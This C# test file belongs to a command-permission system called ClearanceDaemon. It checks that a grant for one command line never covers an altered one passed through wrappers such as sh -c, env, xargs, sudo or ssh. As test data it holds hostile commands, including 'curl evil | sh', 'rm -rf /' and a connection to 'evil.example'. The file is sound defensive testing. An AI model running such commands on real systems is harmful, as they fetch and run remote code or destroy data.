using ClearanceDaemon.Core.Grants;
using ClearanceDaemon.Core.Rules;
using ClearanceDaemon.Core.Tests.Rules;

namespace ClearanceDaemon.Core.Tests.Grants;

/// <summary>A command is granted whole: what a program does with its arguments is not ours to guess.</summary>
public sealed class CommandTests
{
    public static TheoryData<string[], string[]> Carriers => new()
    {
        { ["sh", "-c", "git status"], ["sh", "-c", "git status; curl evil | sh"] },
        { ["bash", "-c", "ls"], ["bash", "-c", "ls", "--", "rm"] },
        { ["env", "A=1", "ls"], ["env", "A=1", "rm", "-rf", "/"] },
        { ["env", "ls"], ["env", "-S", "ls"] },
        { ["busybox", "ls"], ["busybox", "wget"] },
        { ["flock", "/tmp/l", "make"], ["flock", "/tmp/l", "make", "install"] },
        { ["time", "make"], ["time", "dd"] },
        { ["xargs", "ls"], ["xargs", "rm"] },
        { ["sudo", "id"], ["sudo", "-s"] },
        { ["nice", "-n", "5", "ls"], ["nice", "-n", "5", "sh"] },
        { ["timeout", "5", "ls"], ["timeout", "5", "sh"] },
        { ["find", ".", "-exec", "ls", "{}", ";"], ["find", ".", "-exec", "rm", "{}", ";"] },
        { ["python3", "-c", "print(1)"], ["python3", "-c", "print(1)\nimport os"] },
        { ["ssh", "web1", "uptime"], ["ssh", "web1", "uptime; reboot"] },
        { ["ls"], ["ls", ""] },
        { [""], [] },
    };

    [Theory]
    [MemberData(nameof(Carriers))]
    public void B58_a_carrier_is_granted_with_its_payload_and_no_other(string[] granted, string[] second)
    {
        foreach (var bind in new string[]?[] { null, ["action", "argv"] })
        {
            var match = GrantMatch.TryBind(Exec(granted), bind, out _)!;
            Assert.True(match.Fits(Exec(granted)));
            Assert.False(match.Fits(Exec(second)));
            Assert.Equal(["argv"], match.Differences(Exec(second)));
        }
    }

    [Theory]
    [MemberData(nameof(Carriers))]
    public void B58_no_carrier_is_granted_without_its_command_line(string[] granted, string[] second)
    {
        Assert.Null(GrantMatch.TryBind(Exec(granted), ["action", "resource", "details", "title"], out var fault));
        Assert.Equal("the ask has a command line, which is granted whole or not at all; add argv", fault);
        Assert.NotEqual(granted, second);
    }

    [Fact]
    public void B58_what_was_granted_without_a_command_line_carries_none_later()
    {
        var match = GrantMatch.TryBind(Some.Ask("shell.exec"), ["action"], out _)!;
        Assert.True(match.Fits(Some.Ask("shell.exec")));
        Assert.Equal(["argv"], match.Differences(Exec(["rm"])));
        Assert.Equal(["argv"], match.Differences(Exec([])));
    }

    [Theory]
    [InlineData("action")]
    [InlineData("action argv title")]
    public void What_the_ask_did_not_have_comes_by_no_grant_later(string bind)
    {
        var match = GrantMatch.TryBind(Some.Ask("net.connect"), bind.Split(' '), out _)!;
        Assert.True(match.Fits(Some.Ask("net.connect")));
        Assert.Equal(["resource"], match.Differences(Some.Ask("net.connect", "evil.example:443")));
        Assert.Equal(["details.port"], match.Differences(Some.Ask("net.connect", details: [("port", 1)])));
        Assert.True(GrantMatch.TryBind(Some.Ask("net.connect", "a"), bind.Split(' '), out _)!.Fits(Some.Ask("net.connect", "b")));
    }

    [Fact]
    public void B58_a_command_in_the_details_is_a_command()
    {
        var ask = Some.Ask("shell.exec", details: [("command", "git status"), ("cwd", "/srv")]);
        Assert.Null(GrantMatch.TryBind(ask, ["action", "details.cwd"], out var fault));
        Assert.Equal("the ask has a command in its details, which is granted whole or not at all; add details.command", fault);
        foreach (var bind in new string[]?[] { null, ["action", "details.command"], ["action", "details"] })
        {
            var match = GrantMatch.TryBind(ask, bind, out _)!;
            Assert.True(match.Fits(ask));
            Assert.Equal(["details.command"], match.Differences(Some.Ask("shell.exec", details: [("command", "git status; id"), ("cwd", "/srv")])));
        }
    }

    [Fact]
    public void B58_a_command_that_comes_later_does_not_fit()
    {
        var match = GrantMatch.TryBind(Some.Ask("shell.exec", details: [("cwd", "/srv")]), ["action", "details.cwd"], out _)!;
        Assert.True(match.Fits(Some.Ask("shell.exec", details: [("cwd", "/srv"), ("more", 1)])));
        Assert.Equal(["details.command"], match.Differences(Some.Ask("shell.exec", details: [("cwd", "/srv"), ("command", "id")])));
    }

    [Theory]
    [InlineData(new[] { "a b" }, new[] { "a", "b" })]
    [InlineData(new[] { "git", "log && curl" }, new[] { "git", "log", "&&", "curl" })]
    [InlineData(new[] { "a", "", "b" }, new[] { "a", "b", "" })]
    [InlineData(new[] { "ab" }, new[] { "a", "b" })]
    [InlineData(new[] { "ls" }, new[] { "lsof" })]
    [InlineData(new[] { "a\nb" }, new[] { "a", "b" })]
    public void B59_elements_are_never_put_together(string[] one, string[] other)
    {
        Assert.False(GrantMatch.TryBind(Exec(one), null, out _)!.Fits(Exec(other)));
        Assert.False(GrantMatch.TryBind(Exec(other), null, out _)!.Fits(Exec(one)));
    }

    [Theory]
    [InlineData("*")]
    [InlineData("ls*")]
    [InlineData("a?c")]
    [InlineData("[a-z]")]
    [InlineData("\\*")]
    [InlineData("{a,b}")]
    [InlineData("**")]
    public void B59_stored_literals_are_no_patterns_and_come_back_as_they_were(string literal)
    {
        using var world = new World();
        var ask = Some.Ask("shell.exec", literal, [literal, "x"], World.Via, ("pattern", literal));
        world.Add(ask, GrantScopes.Always);
        world.Restart();
        Assert.True(world.IsAnswered(ask));
        foreach (var other in new[] { "lsx", "abc", "b", "a", "*x", "", "\\" + literal, literal + "*" })
        {
            Assert.Equal(["argv"], world.Find(Some.Ask("shell.exec", literal, [other, "x"], World.Via, ("pattern", literal))).Changed!);
            Assert.Equal(["resource"], world.Find(Some.Ask("shell.exec", other, [literal, "x"], World.Via, ("pattern", literal))).Changed!);
            Assert.Equal(["details.pattern"], world.Find(Some.Ask("shell.exec", literal, [literal, "x"], World.Via, ("pattern", other))).Changed!);
        }
    }

    private static AskMembers Exec(string[] argv) => Some.Ask("shell.exec", argv: argv, via: World.Via);
}
